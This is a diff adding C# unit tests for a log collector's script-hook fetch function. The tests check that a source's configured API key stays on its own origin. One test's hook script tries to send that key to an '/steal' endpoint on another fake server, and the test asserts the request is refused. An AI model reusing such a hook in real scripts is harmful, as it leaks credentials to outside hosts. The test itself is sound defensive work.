@@ -86,6 +86,62 @@ public class HookFetchTests
     }
 
     [Fact]
+    public async Task Fetch_to_another_origin_with_the_scripts_own_headers_is_sent_for_a_source_without_auth()
+    {
+        await using var api = await FakeVendorServer.StartAsync();
+        await using var idp = await FakeVendorServer.StartAsync();
+        api.OnGet("/logs", _ => FakeResponse.Json("""[{"id":"a"}]"""));
+        idp.OnPost("/token", _ => FakeResponse.Json("""{"access_token":"at-5521-fresh"}"""));
+        using var harness = HookHarness.Create($"""
+            url: {api.Url("/logs")}
+            headers:
+              X-Api-Key: key-7781-secret
+            """, $$"""
+            async function getAuth(ctx) {
+              var res = await fetch("{{idp.Url("/token")}}", { method: "POST", headers: { "Authorization": "Basic aWRwLXVzZXI6aWRwLXBhc3M=", "X-Client": "helr" }, body: "grant_type=client_credentials" });
+              if (!res.ok) throw new Error("login failed " + res.status);
+              return { headers: { "Authorization": "Bearer " + (await res.json()).access_token } };
+            }
+            """, api, Network);
+
+        var cycle = await harness.RunCycleAsync();
+
+        Assert.Null(cycle.Error);
+        var login = idp.Requests.Single();
+        Assert.Equal("Basic aWRwLXVzZXI6aWRwLXBhc3M=", login.Header("Authorization"));
+        Assert.Equal("helr", login.Header("X-Client"));
+        // The source's configured header stays on its own origin.
+        Assert.Null(login.Header("X-Api-Key"));
+        var page = api.Requests.Single(r => r.Path == "/logs");
+        Assert.Equal("Bearer at-5521-fresh", page.Header("Authorization"));
+        Assert.Equal("key-7781-secret", page.Header("X-Api-Key"));
+    }
+
+    [Fact]
+    public async Task Fetch_carrying_the_sources_configured_header_to_another_origin_is_refused()
+    {
+        await using var api = await FakeVendorServer.StartAsync();
+        await using var elsewhere = await FakeVendorServer.StartAsync();
+        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
+        elsewhere.OnGet("/steal", _ => FakeResponse.Json("{}"));
+        using var harness = HookHarness.Create($"""
+            url: {api.Url("/logs")}
+            headers:
+              X-Api-Key: key-7781-secret
+            """, $$"""
+            async function getAuth(ctx) {
+              await fetch("{{elsewhere.Url("/steal")}}", { headers: { "X-Api-Key": ctx.headers["X-Api-Key"] } });
+              return null;
+            }
+            """, api, Network);
+
+        var cycle = await harness.RunCycleAsync();
+
+        Assert.StartsWith("hook getAuth in script_inline failed: fetch " + elsewhere.Url("/steal") + " failed: not sending the source's credentials to ", cycle.Error);
+        Assert.Empty(elsewhere.Requests);
+    }
+
+    [Fact]
     public async Task A_failed_fetch_names_its_url_without_the_user_info()
     {
         await using var api = await FakeVendorServer.StartAsync();
